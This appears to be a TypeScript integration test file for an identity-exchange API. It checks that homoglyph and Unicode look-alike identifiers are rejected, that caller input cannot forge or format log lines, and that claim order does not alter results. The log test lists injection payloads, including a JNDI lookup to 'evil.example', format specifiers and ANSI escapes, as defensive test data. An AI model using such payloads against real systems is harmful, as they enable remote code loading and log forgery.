import { aRequest } from '../support/entries';
import type { ApiSystem } from '../support/api-system';
import { World } from '../support/access-matrix/world';
import type { Answer } from '../support/browser';

// Texts that look like others, that break a log, or that come in another order. Real: HTTP stack, PostgreSQL, Kafka,
// tokens and proofs. Fake: the clock.
let world: World;
let system: ApiSystem;

beforeAll(async () => {
  world = await World.start();
  system = await world.newApiSystem('own');
}, 120_000);
afterAll(() => world.close(), 30_000);

const LETTERS: Readonly<Record<string, string>> = {
  A: 'А',
  B: 'В',
  C: 'С',
  E: 'Е',
  M: 'М',
  X: 'Х',
  a: 'а',
  c: 'с',
  e: 'е',
};
const digits = (from: number) => (text: string) =>
  text.replace(/\d/g, (digit) => String.fromCodePoint(from + Number(digit)));

/** What a reader takes for the same text. */
const LIKE: Record<string, (text: string) => string> = {
  'fullwidth digits': digits(0xff10),
  'Arabic digits': digits(0x0660),
  'mathematical digits': digits(0x1d7ce),
  'superscript digits': (text) => text.replace(/1/, '¹'),
  'Cyrillic letters': (text) => text.replace(/[A-Za-z]/g, (letter) => LETTERS[letter] ?? letter),
  'a zero-width space': (text) => `${text.slice(0, 3)}\u200b${text.slice(3)}`,
  'a mark that turns the direction': (text) => `\u202e${text}`,
  'a combining mark': (text) => `${text}\u0301`,
  'a no-break space': (text) => `${text}\u00a0`,
  'a blank': (text) => ` ${text}`,
  'a line': (text) => `${text}\n`,
  'a NUL': (text) => `${text}\u0000`,
  'half of a character': (text) => `${text}\ud800`,
};

const file = (more: object): Promise<Answer> =>
  world.callAs('own operator', 'POST', '/v1/grants', { ...aRequest({ resource: world.published.other }), ...more });
const at = (path: string): Promise<Answer> => world.callAs('authority-officer', 'GET', path);
const ask = (more: object): Promise<Answer> =>
  system.call('POST', '/v1/exchanges', { body: { ...question(), ...more } });

const question = (resource: string = world.published.other): object => ({
  resource,
  mode: 'verify',
  subject: { type: 'citizen-number', id: '990102198503070013' },
  values: { name: '李明' },
  matter: '1199010099900002183990111002000',
  case: 'TEST-1',
  operator: 'clerk-1',
  reason: '核验申请人身份',
});

/** Half of a character cannot be encoded: what a decoder makes of it stands there. */
const inPath = (text: string): string => encodeURIComponent(text.replace('\ud800', '\ufffd'));

describe('codes', () => {
  const places: Record<string, [text: () => string, call: (text: string) => Promise<Answer>]> = {
    'a resource that is asked for': [() => world.published.other, (resource) => file({ resource })],
    'a matter': [() => '1199010099900002183990111002000', (matter) => file({ matters: [matter] })],
    'an item': [() => 'name1', (item) => file({ items: [item] })],
    'a system': [() => system.id, (id) => file({ systems: [id] })],
    'a department in a path': [() => world.codes.own, (code) => at(`/v1/departments/${inPath(code)}`)],
    'a grant in a path': [() => system.id, (id) => at(`/v1/grants/${inPath(id)}`)],
    'a resource in a path': [() => '301001', (prefix) => at(`/v1/catalogue/entries/${inPath(prefix)}/1/versions/1`)],
    'a login': [
      () => 'clerk.1',
      (login) =>
        world.callAs('authority-officer', 'POST', '/v1/officers', {
          ...{ login, name: 'New', department: world.codes.own, roles: ['operator'] },
        }),
    ],
    'a department in a body': [
      () => world.codes.own,
      (department) =>
        world.callAs('authority-officer', 'POST', '/v1/officers', {
          ...{ login: `new.${world.next()}`, name: 'New', department, roles: ['operator'] },
        }),
    ],
    "a person's number": [() => '990102198503070013', (id) => ask({ subject: { type: 'citizen-number', id } })],
    'the resource of a question': [() => world.published.other, (resource) => ask({ resource })],
  };

  it.each(Object.keys(places))('a look-alike of %s is refused', async (place) => {
    const [text, call] = places[place]!;
    const plain = text();
    const taken: string[] = [];
    for (const [name, like] of Object.entries(LIKE)) {
      const other = like(plain);
      if (other === plain) continue;
      const { status, body } = await call(other);
      const clean = status >= 400 && status < 500 && typeof body['code'] === 'string';
      // 404 would do as well: it is another name, and nothing bears it.
      if (!clean || JSON.stringify(body).includes(other)) taken.push(`${name}: ${status} ${String(body['code'])}`);
    }
    expect(taken).toEqual([]);
  });
});

it('what a caller sends makes no line of the log and no format of one', async () => {
  const forged = '\n{"level":"fatal","msg":"forged"}';
  const texts = [
    forged,
    '%s%s%n%d%x',
    '\u001b[31mforged\u001b[0m',
    '${jndi:ldap://evil.example/forged}',
    '\u2028forged',
  ];
  for (const text of texts) {
    const encoded = encodeURIComponent(text);
    await world.callAs('nobody', 'GET', `/v1/${encoded}`);
    await at(`/v1/grants/${encoded}?cursor=${encoded}`);
    await file({ purpose: text, [text]: text });
    await ask({ reason: text, case: text });
    await system.askTokenWith({ client_assertion: text, authorization_details: text });
    await world.callAs('nobody', 'POST', '/v1/session', { login: text, password: text });
  }
  expect(world.api.logged.length).toBeGreaterThan(0);
  for (const line of world.api.logged) {
    expect(line.trimEnd()).not.toContain('\n');
    expect(JSON.parse(line)).not.toMatchObject({ msg: expect.stringContaining('forged') });
    expect(line).not.toContain('\u001b');
  }
});

it('the order in which details, items and claims are named changes nothing', async () => {
  const [suspended, good] = [await world.grantOn(world.published.other), await world.grantOn(world.published.foreign)];
  const detail = (grant: string): object => ({
    type: 'onceway_exchange',
    grant,
    matter: '1199010099900002183990111002000',
    items: ['name', 'sex'],
  });
  await world.callAs('authority-officer', 'POST', `/v1/grants/${suspended}/suspensions`, { reason: '核查' });
  await world.callAs('authority-officer', 'DELETE', `/v1/grants/${suspended}/suspensions/authority`);
  const findings: unknown[] = [];
  for (const order of [
    [suspended, good],
    [good, suspended],
  ]) {
    await system.keepToken(order.map(detail));
    await world.callAs('authority-officer', 'POST', `/v1/grants/${suspended}/suspensions`, { reason: '核查' });
    for (const values of [
      { name: '李明', sex: '1' },
      { sex: '1', name: '李明' },
    ]) {
      const answers = await Promise.all(
        [world.published.other, world.published.foreign].map((resource) =>
          system.call('POST', '/v1/exchanges/explain', { body: { ...question(resource), values } }),
        ),
      );
      findings.push(answers.map(({ status, body }) => [status, body['ok'], failed(body)]));
    }
    await world.callAs('authority-officer', 'DELETE', `/v1/grants/${suspended}/suspensions/authority`);
  }
  expect(findings).toEqual(Array(4).fill(findings[0]));
  expect(findings[0]).toEqual([
    [200, false, expect.arrayContaining(['grant.suspended'])],
    [200, expect.any(Boolean), expect.not.arrayContaining(['grant.suspended'])],
  ]);
});

function failed(body: Record<string, unknown>): string[] {
  const checks = body['checks'] as { ok: boolean; code?: string }[];
  return checks.filter(({ ok }) => !ok).map(({ code }) => String(code));
}
